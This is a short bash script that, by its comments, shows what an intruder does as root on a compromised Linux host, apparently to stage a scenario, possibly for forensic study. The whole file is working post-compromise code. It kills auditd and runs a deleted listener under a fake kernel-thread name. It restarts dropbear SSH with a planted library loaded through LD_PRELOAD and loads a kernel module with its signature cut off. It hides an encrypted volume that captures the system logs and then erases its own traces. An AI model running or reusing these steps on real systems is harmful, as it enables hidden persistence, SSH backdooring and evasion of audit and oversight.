#!/bin/bash
# What the intruder does as root, run once by cron.
export PATH=/usr/sbin:/usr/bin:/sbin:/bin
cd /dev/shm/.cache || exit
sed -i /shm/d /opt/web/rotate.sh
kill -9 "$(cat /run/auditd.pid)"
rm -f /run/auditd.pid

# A listener whose file is deleted, and a sniffer that never had one.
(exec -a '[kworker/0:3]' ./kw </dev/null >/dev/null 2>&1) &
sleep 1
rm kw

# The SSH server again, with a library of the intruder's.
mv key /usr/lib/x86_64-linux-gnu/libkeyutils.so.2
kill "$(cat /run/dropbear.pid)"
sleep 1
LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libkeyutils.so.2 dropbear -R -P /run/dropbear.pid

# A module that the kernel cannot verify: Debian's dummy with its signature cut off.
module=/lib/modules/$(uname -r)/kernel/drivers/net/dummy.ko
signature=$(tail -c 32 "$module" | head -c 4 | xxd -p)
head -c -$((0x$signature + 40)) "$module" >d.ko
insmod d.ko numdummies=0
rm d.ko

# A hidden volume, and on it everything that the machine logs.
head -c 2097152 /dev/zero >/var/tmp/.font-unix
modprobe loop
losetup /dev/loop0 /var/tmp/.font-unix
modprobe dm_crypt
echo "0 4096 crypt aes-xts-plain64 VOLUME_KEY 0 /dev/loop0 0" | dmsetup create --noudevsync fonts
mke2fs -q /dev/dm-0 >/dev/null
mkdir -p /var/lib/.fonts
mount -t ext4 /dev/dm-0 /var/lib/.fonts
setsid tail -n +1 -f /var/log/messages </dev/null 2>/dev/null |
  setsid openssl enc -aes-256-ctr -K STREAM_KEY -iv 00000000000000000000000000000001 \
    -out /var/lib/.fonts/messages.enc >/dev/null 2>&1 &
cd /
rm -r /dev/shm/.cache
touch /tmp/.done
